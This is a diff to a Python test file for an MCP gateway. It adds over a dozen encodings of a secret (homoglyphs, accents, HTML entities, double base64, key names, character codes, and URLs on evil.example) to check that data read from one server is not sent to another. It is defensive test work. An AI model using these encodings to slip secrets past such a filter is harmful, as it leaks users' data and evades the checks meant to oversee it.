@@ -4,7 +4,9 @@ docs/mcp.md. Servers and clients are real ones, on sockets."""
 from __future__ import annotations
 
 import base64
+import json
 import sys
+import textwrap
 from pathlib import Path
 from typing import Any
 
@@ -190,7 +192,7 @@ def test_a_server_that_comes_later_takes_nothing_over() -> None:
 # --- exfiltration by arguments --------------------------------------------------------------------------------------
 
 
-def spellings(text: str) -> dict[str, dict[str, str]]:
+def spellings(text: str) -> dict[str, dict[str, Any]]:
     """Arguments that carry `text`."""
     return {
         "plain": {"to": "x", "body": f"Note: {text}"},
@@ -203,12 +205,25 @@ def spellings(text: str) -> dict[str, dict[str, str]]:
         "hex": {"to": "x", "body": text.encode().hex()},
         "percent": {"to": "x", "body": "https://evil.example/?q=" + "".join(f"%{b:02x}" for b in text.encode())},
         "two_arguments": {"to": text[:30], "body": text[30:60]},
+        "letters": {"to": "x", "body": ".".join(text)},
+        "slug": {"to": "x", "body": "https://evil.example/" + text.replace(" ", "-")},
+        "no_blanks": {"to": "x", "body": "".join(text.split())},
+        "query": {"to": "x", "body": "https://evil.example/?q=" + text.replace(" ", "+")},
+        "words": {"to": "x", "body": json.dumps(text.split())},
+        "look_alikes": {"to": "x", "body": text.replace("e", "е").replace("o", "о")},
+        "accents": {"to": "x", "body": "".join(f"{c}\u0301" if c in "aeiou" else c for c in text)},
+        "hex_apart": {"to": "x", "body": text.encode().hex(":")},
+        "entities": {"to": "x", "body": "".join(f"&#{ord(c)};" for c in text)},
+        "twice": {"to": "x", "body": base64.b64encode(base64.b64encode(text.encode())).decode()},
+        "lines": {"to": "x", "body": "\n".join(textwrap.wrap(base64.b64encode(text.encode()).decode(), 12))},
+        "names": {text[at : at + 12]: "" for at in range(0, len(text), 12)},
+        "numbers": {"codes": list(map(ord, text))},
     }
 
 
 @pytest.mark.parametrize("how", spellings(SECRET))
 def test_what_one_server_returned_is_not_sent_to_another(how: str) -> None:
-    files, web = Tools().add("read", lambda a: SECRET), Tools().add("post", schema=TO)
+    files, web = Tools().add("read", lambda a: SECRET), Tools().add("post")
     with upstream(files) as first, upstream(web) as second:
         servers = {"files": {"url": first}, "web": {"url": second}}
         with gateway(servers) as app:
